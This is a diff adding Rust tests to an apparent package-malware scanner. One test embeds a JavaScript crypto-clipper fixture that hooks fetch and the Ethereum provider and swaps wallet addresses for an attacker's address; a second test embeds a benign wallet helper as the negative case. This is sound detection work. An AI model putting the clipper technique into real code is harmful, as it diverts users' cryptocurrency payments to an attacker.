@@ -223,4 +223,38 @@ mod tests {
         ]);
         assert!(hits(&s, "code/crypto-clipper").is_empty());
     }
+
+    /// The September 2025 chalk/debug payload shape: globals reached as `G[K]` with `G` the
+    /// `globalThis`-or-`window`-or-`{}` feature test and names joined from parts, attacker
+    /// addresses built with `repeat`; `fetch`, XHR `open` and the provider's `request` replaced.
+    #[test]
+    fn positive_hooks_through_joined_global_names() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "dist/index.umd.js",
+                "(function () {\n  var G = typeof globalThis !== 'undefined' ? globalThis : typeof window !== 'undefined' ? window : {};\n  var K = ['fet', 'ch'].join(''), X = ['XMLHttp', 'Request'].join(''), E = ['eth', 'ereum'].join('');\n  var A = '0x' + 'Fa11' + '0'.repeat(36);\n  var R = [/\\b0x[a-fA-F0-9]{40}\\b/g, /\\b(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,59}\\b/g];\n  function swap(t) { return t.replace(R[0], A); }\n  if (G[K] && G.document) {\n    var of = G[K];\n    G[K] = function () { return of.apply(this, arguments).then(function (r) { return r.text().then(function (t) { return new Response(swap(t)); }); }); };\n    var xp = G[X] && G[X].prototype, oo = xp && xp.open;\n    if (oo) xp.open = function () { return oo.apply(this, arguments); };\n    var w = G[E];\n    if (w) { var rq = w.request; w.request = function (a) { a.params[0].to = A; return rq.call(this, a); }; }\n  }\n})();\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/crypto-clipper"),
+            vec![("dist/index.umd.js".to_string(), 5)]
+        );
+        assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
+    /// A wallet helper reaches the provider through the same feature test and joined names,
+    /// but only asks for accounts and validates them: nothing is replaced.
+    #[test]
+    fn negative_provider_reached_through_joined_names() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "var G = typeof globalThis !== 'undefined' ? globalThis : typeof window !== 'undefined' ? window : {};\nvar E = ['eth', 'ereum'].join('');\nexports.isAddress = function (a) { return /^0x[a-fA-F0-9]{40}$/.test(a) || /^bc1[a-z0-9]{38,58}$/.test(a); };\nexports.connect = function () { return G[E].request({ method: 'eth_requestAccounts' }); };\n",
+            ),
+        ]);
+        assert!(hits(&s, "code/crypto-clipper").is_empty());
+        assert_eq!(s.verdict, crate::Verdict::Clean);
+    }
 }
